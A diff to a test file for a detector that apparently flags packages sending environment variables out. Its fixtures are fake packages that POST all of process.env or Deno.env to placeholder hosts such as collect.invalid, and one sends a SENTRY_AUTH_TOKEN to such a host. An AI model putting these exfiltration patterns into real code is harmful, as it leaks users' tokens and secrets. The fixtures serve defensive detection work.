@@ -3,8 +3,49 @@ import { sendsEnvironment } from './sends-environment.ts';
 
 const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
 
+const SHARED_REQUEST = `exports.request = (url, options) => fetch(url, { ...options, dispatcher: exports.dispatcher })`;
+
+function manyServices(url: string): string {
+  const ask = (place: string, key: string): string => `request(${place}, { headers: { authorization: 'Bearer ' + process.env.${key} } })`;
+  return `const { request } = require('./request'); ${ask("'https://api.cloudflare.com/client/v4/zones'", 'CLOUDFLARE_API_TOKEN')}; ${ask(url, 'SENTRY_AUTH_TOKEN')}; ${ask("'https://api.github.com/user'", 'GITHUB_TOKEN')}; ${ask("'AWS::' + exports.kind", 'AWS_SECRET_ACCESS_KEY')}`;
+}
+
 examine(sendsEnvironment, {
   speaks: [
+    {
+      when: 'only what a caller asks for reads it, in another file, and what is sent at import is something else',
+      files: {
+        'index.js': `const { send } = require('./telemetry'); const { settings } = require('./settings'); send({ name: 'loaded' }); exports.Tools = class { async call(name) { await send({ name, versions: settings('SPECIMEN_') }) } }`,
+        'telemetry.js': `exports.send = event => fetch('https://statistics.specimen.invalid/v1', { method: 'POST', body: JSON.stringify(event) })`,
+        'settings.js': `exports.settings = prefix => Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith(prefix)))`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'the same is read and sent at import',
+      files: {
+        'index.js': `const { send } = require('./telemetry'); const { settings } = require('./settings'); send({ name: 'loaded', versions: settings('') }); exports.Tools = class { async call(name) { await send({ name, versions: settings('SPECIMEN_') }) } }`,
+        'telemetry.js': `exports.send = event => fetch('https://statistics.specimen.invalid/v1', { method: 'POST', body: JSON.stringify(event) })`,
+        'settings.js': `exports.settings = prefix => Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith(prefix)))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a client of many services hands all its requests to one function',
+      files: {
+        'index.js': manyServices("'https://sentry.io/api/0/projects/'"),
+        'request.js': SHARED_REQUEST,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'one of many services gave out none of the keys',
+      files: {
+        'index.js': manyServices("'https://collect.invalid/'"),
+        'request.js': SHARED_REQUEST,
+      },
+      weight: 'strong',
+    },
     {
       when: 'Deno is asked for all of it',
       files: { 'index.js': `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(Deno.env.toObject()) })` },
